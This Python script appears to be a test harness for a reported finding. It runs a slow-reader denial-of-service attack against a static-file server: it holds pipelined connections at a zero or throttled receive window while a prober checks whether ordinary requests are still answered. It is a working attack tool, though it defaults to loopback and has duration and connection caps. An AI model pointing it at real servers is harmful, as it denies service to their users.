#!/usr/bin/env python3
"""Slow-reader attack on a static-file server, with a prober measuring whether anyone else
still gets served (issue 8, finding 1).

stalled: batches of --conns connections, each with SO_RCVBUF=--rcvbuf set before connect,
         each sending --pipeline pipelined `GET --path` requests at once and never reading.
         A new batch opens every --batch-every seconds (0 = one batch only). Earlier batches
         stay open (never read, never closed) until the end. Whether and when the server
         gave up on each is read from the server socket's state in /proc/net/tcp (its FIN
         is stuck behind the data our zero window refuses, so the client cannot see it).
steady:  --conns connections, same set-up, each reading at --rate bytes/second (token bucket,
         refilled every 50 ms, at most 250 ms of credit). Reports the bytes each got and
         whether the server closed it.

Meanwhile a prober opens a fresh connection every --probe-every seconds (one probe at a
time: the next starts --probe-every after the previous one started, or when it ended if it
took longer), sends `GET --probe` with `Connection: close`, and counts it answered only if a
complete 200 (head + Content-Length bytes) arrives within --probe-timeout. Probes start
only during the first --duration seconds, and the attack stays in place until the last one
has finished, so no probe is answered just because the attackers hung up.

Python 3 stdlib only. Loopback is the intended target; every socket has a timeout and the
run ends by itself after --duration seconds (+ at most --probe-timeout + 1 s for the last probe).
"""

import argparse
import errno
import os
import select
import socket
import statistics
import sys
import threading
import time


def parse_args():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, default=8, help="connections per batch")
    p.add_argument("--rcvbuf", type=int, default=4096, help="SO_RCVBUF, set before connect (0 = leave default)")
    p.add_argument("--path", default="/1m.bin", help="what the slow connections request")
    p.add_argument("--pipeline", type=int, default=10, help="requests each slow connection sends up front")
    p.add_argument("--batch-every", type=float, default=0.0, help="seconds between batches (0 = one batch)")
    p.add_argument("--duration", type=float, default=30.0, help="seconds the attack lasts")
    p.add_argument("--probe", default="/small.txt")
    p.add_argument("--probe-every", type=float, default=1.0)
    p.add_argument("--probe-timeout", type=float, default=3.0)
    p.add_argument("--mode", choices=("stalled", "steady"), default="stalled")
    p.add_argument("--rate", type=int, default=30000, help="bytes/second per connection (steady mode)")
    p.add_argument("--max-conns-total", type=int, default=512, help="safety cap on slow connections opened")
    a = p.parse_args()
    if a.duration <= 0 or a.duration > 600:
        p.error("--duration must be in (0, 600]")
    if a.conns < 1 or a.pipeline < 1 or a.probe_every <= 0 or a.probe_timeout <= 0:
        p.error("--conns, --pipeline, --probe-every and --probe-timeout must be positive")
    return a


def request(path, host="a", close=False):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (path, host, "Connection: close\r\n" if close else "")).encode()


def open_slow(args, timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if args.rcvbuf > 0:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
    s.settimeout(timeout)
    s.connect((args.host, args.port))
    s.sendall(request(args.path) * args.pipeline)
    return s


def peer_closed(s):
    """True if the server's FIN or RST reached us, judged without reading."""
    try:
        po = select.poll()
        po.register(s.fileno(), select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        return bool(po.poll(0))
    except (OSError, ValueError):
        return True


def server_states(server_port):
    """{client port: TCP state} of the server's sockets towards us, from /proc/net/tcp.

    A server that gives up on a never-reading client closes its socket, but its FIN waits
    behind unsent data that our zero window blocks, so the client cannot see it; the
    server's side shows FIN_WAIT1 (or is gone after an RST) instead of ESTABLISHED."""
    states = {}
    try:
        with open("/proc/net/tcp") as f:
            next(f)
            for line in f:
                parts = line.split()
                local, remote, st = parts[1], parts[2], parts[3]
                if int(local.split(":")[1], 16) == server_port:
                    states[int(remote.split(":")[1], 16)] = st
    except OSError:
        pass
    return states


TCP_STATES = {"01": "ESTABLISHED", "04": "FIN_WAIT1", "05": "FIN_WAIT2", "06": "TIME_WAIT",
              "07": "CLOSE", "08": "CLOSE_WAIT", "09": "LAST_ACK", "0B": "CLOSING"}


class Stalled:
    def __init__(self, sock, opened):
        self.sock = sock
        self.port = sock.getsockname()[1]
        self.opened = opened
        self.closed_at = None  # seconds since the attack began when first seen closed
        self.state = "ESTABLISHED"


def sample_closes(args, conns, now):
    states = server_states(args.port)
    for c in conns:
        if c.closed_at is not None:
            continue
        st = states.get(c.port)
        if st != "01" or peer_closed(c.sock):
            c.closed_at = now
            c.state = TCP_STATES.get(st, st) if st else "gone (RST or fully closed)"


class Probe:
    def __init__(self, t, ok, latency, note):
        self.t, self.ok, self.latency, self.note = t, ok, latency, note


def probe_once(args, t0):
    start = time.monotonic()
    deadline = start + args.probe_timeout
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    buf = b""
    try:
        s.settimeout(args.probe_timeout)
        s.connect((args.host, args.port))
        s.sendall(request(args.probe, close=True))
        head_end, need = -1, None
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return Probe(start - t0, False, None, "timeout (%d bytes)" % len(buf))
            s.settimeout(left)
            chunk = s.recv(65536)
            if not chunk:
                return Probe(start - t0, False, None, "closed (%d bytes)" % len(buf))
            buf += chunk
            if head_end < 0:
                head_end = buf.find(b"\r\n\r\n")
                if head_end >= 0:
                    head = buf[:head_end].decode("latin-1").split("\r\n")
                    status = head[0].split(" ")[1] if len(head[0].split(" ")) > 1 else "?"
                    if status != "200":
                        return Probe(start - t0, False, None, "status " + status)
                    need = 0
                    for line in head[1:]:
                        k, _, v = line.partition(":")
                        if k.strip().lower() == "content-length":
                            need = int(v.strip())
            if head_end >= 0 and len(buf) - head_end - 4 >= need:
                return Probe(start - t0, True, time.monotonic() - start, "200")
    except socket.timeout:
        return Probe(start - t0, False, None, "timeout (%d bytes)" % len(buf))
    except OSError as e:
        return Probe(start - t0, False, None, "error %s" % (errno.errorcode.get(e.errno, e),))
    finally:
        s.close()


def prober(args, t0, end, results, done):
    """Probes start until `end`; the attack stays in place until `done` is set, so the last
    probe is not answered merely because the attackers hung up."""
    try:
        next_t = t0 + args.probe_every
        while True:
            now = time.monotonic()
            if next_t >= end:
                return
            if now < next_t:
                time.sleep(next_t - now)
                continue
            started = time.monotonic()
            results.append(probe_once(args, t0))
            next_t = max(started + args.probe_every, time.monotonic())
    finally:
        done.set()


class Steady:
    def __init__(self, idx):
        self.idx = idx
        self.received = 0
        self.ended = "open at end"
        self.cut_at = None


def steady_reader(args, st, t0, end, done, hard_end):
    try:
        s = open_slow(args)
    except OSError as e:
        st.ended = "connect failed: %s" % e
        return
    burst = max(1.0, args.rate / 4.0)  # at most 250 ms worth of reading at once
    tokens, last = 0.0, time.monotonic()
    try:
        while True:
            now = time.monotonic()
            if (done.is_set() and now >= end) or now >= hard_end:
                break
            tokens = min(tokens + (now - last) * args.rate, burst)
            last = now
            if tokens < 1:
                time.sleep(0.05)
                continue
            s.settimeout(max(0.05, min(1.0, hard_end - now)))
            try:
                data = s.recv(min(int(tokens), 65536))
            except socket.timeout:
                continue
            if not data:  # steady readers keep the window open, so a FIN does reach us
                st.ended = "closed by server (FIN)"
                st.cut_at = time.monotonic() - t0
                return
            st.received += len(data)
            tokens -= len(data)
            if tokens < 1:
                time.sleep(0.05)
    except OSError as e:
        st.ended = "closed by server (%s)" % errno.errorcode.get(e.errno, e)
        st.cut_at = time.monotonic() - t0
    finally:
        s.close()


def main():
    args = parse_args()
    t0 = time.monotonic()
    end = t0 + args.duration
    print("# slow_readers.py %s" % " ".join(sys.argv[1:]))
    print("# start %s, loadavg %s" % (time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()), open("/proc/loadavg").read().strip()))
    probes, done = [], threading.Event()
    # The attack lasts until the last probe (started before `end`) has finished, at most
    # --probe-timeout + 1 s past `end`.
    hard_end = end + args.probe_timeout + 1.0
    prober_thread = threading.Thread(target=prober, args=(args, t0, end, probes, done), daemon=True)

    batches = []  # (t, [Stalled], failures)
    steady = []
    threads = []
    if args.mode == "stalled":
        next_batch = t0
        prober_thread.start()
        total = 0
        last_sample = 0.0
        while not (done.is_set() and time.monotonic() >= end) and time.monotonic() < hard_end:
            now = time.monotonic()
            if now < end and now >= next_batch and total + args.conns <= args.max_conns_total:
                conns, fails = [], []
                for _ in range(args.conns):
                    try:
                        conns.append(Stalled(open_slow(args), now - t0))
                    except OSError as e:
                        fails.append(str(e))
                total += args.conns
                batches.append((now - t0, conns, fails))
                print("# t=%5.1fs batch %d: %d connections open, %d failed" % (now - t0, len(batches), len(conns), len(fails)), flush=True)
                if args.batch_every <= 0:
                    next_batch = float("inf")
                else:
                    next_batch += args.batch_every
            if now - last_sample >= 0.5:
                sample_closes(args, [c for b in batches for c in b[1]], now - t0)
                last_sample = now
            time.sleep(0.1)
        sample_closes(args, [c for b in batches for c in b[1]], time.monotonic() - t0)
    else:
        for i in range(args.conns):
            st = Steady(i)
            steady.append(st)
            th = threading.Thread(target=steady_reader, args=(args, st, t0, end, done, hard_end), daemon=True)
            threads.append(th)
            th.start()
        time.sleep(0.2)
        prober_thread.start()
        for th in threads:
            th.join(max(0.0, hard_end - time.monotonic()) + 3.0)

    prober_thread.join(max(0.0, hard_end - time.monotonic()) + 1.0)
    attack_len = time.monotonic() - t0

    print()
    print("probes (t = seconds since the attack began):")
    for pr in probes:
        print("  t=%5.1fs %s %s" % (pr.t, "OK  " if pr.ok else "FAIL", ("%.1f ms" % (pr.latency * 1000)) if pr.ok else pr.note))
    ok = [pr.latency * 1000 for pr in probes if pr.ok]
    print()
    if args.mode == "stalled":
        opened = sum(len(b[1]) for b in batches)
        closed = sum(1 for b in batches for c in b[1] if c.closed_at is not None)
        print("stalled connections: %d opened in %d batch(es), %d failed to open; closed by the server by the end"
              " (%.1f s; server socket state in /proc/net/tcp, sampled every 0.5 s): %d"
              % (opened, len(batches), sum(len(b[2]) for b in batches), attack_len, closed))
        for i, (t, conns, _) in enumerate(batches):
            held = sorted(c.closed_at - c.opened for c in conns if c.closed_at is not None)
            print("  batch %d (t=%.1fs): %d/%d closed by the server%s" % (
                i + 1, t, len(held), len(conns),
                (", %.1f-%.1f s after opening (%s)" % (held[0], held[-1], ", ".join(sorted({c.state for c in conns if c.closed_at is not None}))))
                if held else ""))
        for _, conns, _ in batches:
            for c in conns:
                c.sock.close()
        slow_part = "stalled_closed=%d/%d" % (closed, opened)
    else:
        cut = 0
        for st in steady:
            print("  slow reader %d: %d bytes received (%.1f KB/s), %s%s"
                  % (st.idx, st.received, st.received / 1000 / attack_len, st.ended,
                     (" at t=%.1fs" % st.cut_at) if st.cut_at is not None else ""))
            cut += st.cut_at is not None
        slow_part = "steady_cut_off=%d/%d steady_bytes=%s" % (cut, len(steady), ",".join(str(st.received) for st in steady))
    if ok:
        lat = "lat_ms_min=%.1f lat_ms_median=%.1f lat_ms_max=%.1f" % (min(ok), statistics.median(ok), max(ok))
    else:
        lat = "lat_ms_min=- lat_ms_median=- lat_ms_max=-"
    print("probes answered: %d/%d; latency ms min/median/max: %s" % (
        len(ok), len(probes), ("%.1f / %.1f / %.1f" % (min(ok), statistics.median(ok), max(ok))) if ok else "-"))
    print("# attack lasted %.1f s (until the last probe ended); end loadavg %s" % (attack_len, open("/proc/loadavg").read().strip()))
    print("SUMMARY mode=%s probes_ok=%d probes_sent=%d %s %s" % (args.mode, len(ok), len(probes), lat, slow_part))


if __name__ == "__main__":
    main()
